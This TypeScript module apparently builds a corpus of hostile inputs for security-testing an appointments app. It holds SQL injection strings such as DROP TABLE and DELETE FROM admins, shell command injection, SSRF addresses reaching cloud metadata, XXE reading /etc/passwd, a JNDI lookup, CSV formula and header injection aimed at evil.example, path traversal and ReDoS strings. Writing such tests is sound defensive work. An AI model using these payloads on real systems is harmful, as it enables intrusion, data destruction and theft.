import { each, mixedCase, percent, spelled, twice } from './compose.ts'
import { handlers, markup, payload, scripts, splitTags } from './markup.ts'
import { strangeText } from './strange-text.ts'

export type Hostile = { kind: string; text: string }

/** Addresses that run or lead away, for `next`, for the picture's address, for anything that becomes a link. */
const schemes = spelled(
  [
    'javascript:',
    'vbscript:',
    'data:text/html,',
    'java\tscript:',
    ' javascript:',
    '\u0001javascript:',
    'blob:https://evil.example/',
  ],
  mixedCase,
  percent,
)
const addresses = [
  ...each(schemes, [payload, '<script>1</script>']),
  ...each(
    [
      '//',
      '\\\\',
      '/\\',
      '\t//',
      'https:',
      'https:/',
      'https:///',
      '/%2f',
      '/%5c',
      '/.//',
      '///',
      'http://',
      '//\u3002',
    ],
    ['evil.example', 'evil.example/admin/dashboard', '127.0.0.1@evil.example', 'evil%00.example'],
  ),
  // A server that fetches (it must not): this machine, the cloud's own address, names that lead there.
  ...each(
    ['http://', 'https://', 'gopher://', 'file://', 'ftp://', 'dict://'],
    [
      '127.0.0.1:22/',
      '[::1]/',
      '[::ffff:169.254.169.254]/latest/meta-data/',
      '2130706433/',
      '0x7f.1/',
      'localhost/',
      '/etc/passwd',
    ],
  ),
]

/** SQL: out of a text, an order, a LIKE, a number; with what each engine does then (sqlmap's boundaries). */
const sql = each(
  ["'", '"', "')", "'))", "\\'", '`', '1', '1)', '%'],
  [
    ' OR 1=1',
    " OR '1'='1",
    ' AND 1=0',
    ' UNION SELECT NULL,NULL,NULL',
    ' UNION SELECT "passwordHash" FROM admins',
    '; DROP TABLE appointments',
    '; DELETE FROM admins',
    "; UPDATE admins SET username='x'",
    ' AND (SELECT pg_sleep(9)) IS NULL',
    ' AND randomblob(900000000)',
    "||(SELECT sql FROM sqlite_master)||'",
    ' ORDER BY 99',
    " LIKE '%",
  ],
  ['', '--', '/*', ';\u0000'],
)

/** Other languages that a text may reach: a shell, a template, XML, LDAP, XPath, a log that looks things up. */
const languages = [
  ...each(
    [';', '|', '||', '&', '&&', '\n', '`', '$('],
    ['id', 'cat /etc/passwd', 'sleep 9', 'ping -c 9 127.0.0.1'],
    ['', '`', ')'],
  ),
  ...each(
    ['${', '{{', '<%=', '#{', '*{', '@(', '[['],
    ['7*7', 'process.env', 'config', 'self', "''.constructor"],
    ['}', '}}', '%>', ')', ']]'],
  ),
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><a>&c;</a>',
  '*)(uid=*))(|(uid=*',
  "' or count(//*)=1 or '",
  '\u0024{jndi:ldap://127.0.0.1/a}',
  '%{(#a=7*7)}',
  '%n%n%s%s%x%p%d',
  '<!--#exec cmd="id"-->',
  '{"$gt":""}',
  '{"$where":"sleep(9)"}',
  '[object Object]',
  '__proto__',
  'constructor.prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"isAdmin":true}}',
  'a]=1&b[',
  'undefined',
  'null',
  'NaN',
  'true',
]

/** Out of a line of an email, a calendar file, a header, a log, a row of CSV (RFC 5322, 5545, 9112, 4180). */
const lines = [
  ...each(
    ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\u560d\u560a', '\\r\\n'],
    [
      'Bcc: evil@evil.example',
      'Subject: other',
      'Content-Type: text/html\r\n\r\n<b>x</b>',
      'Set-Cookie: session=evil',
      'X-Injected: yes',
      'Location: //evil.example',
      'END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:other',
      'ATTENDEE:mailto:evil@evil.example',
      '.\r\nMAIL FROM:<evil@evil.example>',
      '{"level":"error","msg":"made up"}',
    ],
  ),
  ...each(
    ['=', '+', '-', '@', '\t=', '\r=', '\u0000=', '"=', ',=', '=', "'="],
    [
      '1+1',
      "cmd|'/c calc'!A1",
      'HYPERLINK("https://evil.example","x")',
      'IMPORTXML("https://evil.example","//a")',
    ],
  ),
  ...each(
    ['a@b.example', '"a"@b.example', '<a@b.example>', 'a@b.example '],
    [
      ', evil@evil.example',
      ';evil@evil.example',
      ' evil@evil.example',
      '\u0000',
      '(x)',
      '@evil.example',
      '%0abcc:evil@evil.example',
    ],
  ),
]

/** Out of a folder (DotDotPwn's lists, shortened). */
const ups = spelled(['../', '..\\', '....//', '/./../', '..;/'], percent, twice)
const paths = [
  ...each(
    [...ups.map((up) => up.repeat(6)), '/', 'file:///', 'C:\\'],
    ['etc/passwd', 'firstlight.db', 'secret.key', 'windows/win.ini'],
    ['', '\u0000.webp', '%00.webp'],
  ),
  'CON',
  'aux.webp',
  '.htaccess',
  '~root',
  '/dev/zero',
  '/proc/self/environ',
]

/** Days, times, numbers and ids that look right to one reader and not to the next. */
const figures = [
  ...each(
    [
      '2026-02-30',
      '2027-02-29',
      '0000-00-00',
      '0000-01-01',
      '9999-12-31',
      '99999-01-01',
      '+012026-01-01',
      '-000001-01-01',
      '2026-13-01',
      '2026-1-1',
      '2026-12-09T00:00',
      '2026-W50-3',
      '20261209',
      '09/12/2026',
      '2026-12-09Z',
    ],
    ['', ' ', '\u0000', ' 10:00', ' 24:00', ' 9:00 PM PM'],
  ),
  ...['24:00', '23:60', '-1:00', '9:00 XM', '٩:٠٠ AM', '9:00\u00a0AM', '1e1:00', '0x9:00'],
  ...[
    '0',
    '-1',
    '-0',
    '00',
    '1e999',
    '1e-999',
    '0x10',
    '0b1',
    '１２',
    '٣',
    '1_000',
    '1,000',
    '1.0',
    'Infinity',
    '-Infinity',
    '9007199254740993',
    '2147483648',
    '-2147483649',
    '18446744073709551616',
    '5 ',
    '4.999999999999999999',
  ],
  ...[
    'admin-1',
    'app_settings',
    'ADMIN',
    ' admin',
    'admin ',
    'ａdmin',
    'аdmin',
    'admin\u0000',
    'admin\u200b',
    'ADMİN',
    '00000000-0000-0000-0000-000000000000',
    '1',
  ],
]

/** Slow for patterns that go back and forth (docs/security.md, T26). */
const slow = [
  `${'a'.repeat(240)}@`,
  `${'a.'.repeat(120)}@a`,
  `a@${'a-'.repeat(120)}`,
  `a@${'a.'.repeat(120)}`,
  `${'!#$%'.repeat(60)}@`,
  `"${'\\'.repeat(240)}`,
  ' '.repeat(5_000),
  `${' '.repeat(2_500)}x${' '.repeat(2_500)}`,
  `${'\r'.repeat(2_500)}x`,
  '0'.repeat(5_000),
  `2026-12-${'0'.repeat(3_000)}9`,
  `${'9'.repeat(3_000)}:00 AM`,
  `https://${'a.'.repeat(990)}example`,
  `https://${'%25'.repeat(600)}`,
  '('.repeat(5_000),
  '['.repeat(5_000),
  '{"a":'.repeat(1_000),
  '<div>'.repeat(1_000),
  'x'.repeat(60_000),
  '\u0301'.repeat(10_000),
  '👩‍👩‍👧‍👦'.repeat(500),
]

const kinds: Record<string, readonly string[]> = {
  markup,
  splitTags,
  handlers,
  scripts,
  addresses,
  sql,
  languages,
  lines,
  paths,
  figures,
  slow,
  strangeText,
}

/** All of it, each text once. */
export const corpus: readonly Hostile[] = [
  ...new Map(
    Object.entries(kinds).flatMap(([kind, texts]) => texts.map((text) => [text, { kind, text }] as const)),
  ).values(),
]
